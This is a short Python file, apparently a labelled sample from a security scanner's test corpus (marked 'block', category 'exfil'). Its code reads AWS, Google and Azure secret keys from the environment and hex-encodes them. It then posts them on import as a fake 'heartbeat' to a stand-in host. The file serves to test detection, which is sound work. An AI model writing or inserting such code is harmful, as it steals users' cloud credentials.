# pyguard-corpus: verdict=block category=exfil rules=PG601
# what: a chain of small helpers picks cloud tokens out of the environment, hex-encodes them and sends them as urllib3 form fields
import binascii
import os

import urllib3


def pick(names):
    return [os.getenv(name, "") for name in names]


def disguise(values):
    return ";".join(binascii.hexlify(v.encode()).decode() for v in values)


def submit(pool, payload):
    return pool.request("POST", "https://status.example.org/heartbeat", fields={"d": payload})


tokens = pick(["AWS_SECRET_ACCESS_KEY", "GOOGLE_API_KEY", "AZURE_CLIENT_SECRET"])
submit(urllib3.PoolManager(), disguise(tokens))
